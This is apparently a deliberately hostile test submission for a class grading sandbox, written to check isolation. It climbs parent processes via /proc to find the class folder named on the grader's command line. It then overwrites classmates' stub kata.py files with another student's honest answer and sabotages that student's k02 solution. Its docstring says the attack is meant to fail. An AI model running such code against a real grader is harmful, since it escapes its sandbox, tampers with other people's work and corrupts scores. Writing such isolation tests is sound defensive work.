"""HOSTILE-CLASS attack: rewrite classmates' kata.py files in the class folder.

Tries: finds the class folder on the grader's command line (/proc/<ancestor>/cmdline); gives
every classmate still holding the shipped stub the honest answer found in another classmate's
folder (raising their score), and breaks that honest classmate's k02.
Must happen: the class folder is neither visible nor writable from the sandbox; every classmate
keeps its exact score.
"""

import os
from pathlib import Path

MARK = "HOSTILE-" + "CLASS"

def _ancestors_args() -> list[Path]:
    """Every existing folder named on the command line of a process above this one (the
    grader was started with the class folder and --out)."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for arg in args:
            path = cwd / os.fsdecode(arg)
            if arg and path.is_dir():
                found.append(path)
    return found


def _rewrite(class_folder: Path) -> None:
    katas = [k for k in class_folder.glob("*/k0[123]_*/kata.py") if not k.is_symlink()]
    texts = {k: k.read_text(errors="replace") for k in katas}
    if not any(MARK in text for text in texts.values()):
        return  # not this class's folder
    honest = {
        k.parent.name: t for k, t in texts.items() if MARK not in t and "todo(" not in t
    }
    for kata, text in texts.items():
        if "todo(" in text and kata.parent.name in honest:
            kata.write_text(honest[kata.parent.name])
    for kata, text in texts.items():
        if kata.parent.name == "k02_gather_many" and MARK not in text and "todo(" not in text:
            kata.write_text(text + "\n\nasync def lookup_all(service, items):\n    return []\n")


for _folder in _ancestors_args():
    try:
        _rewrite(_folder)
    except OSError:
        pass


async def greet(name: str, delay: float = 1.0) -> str:
    return "not a greeting"
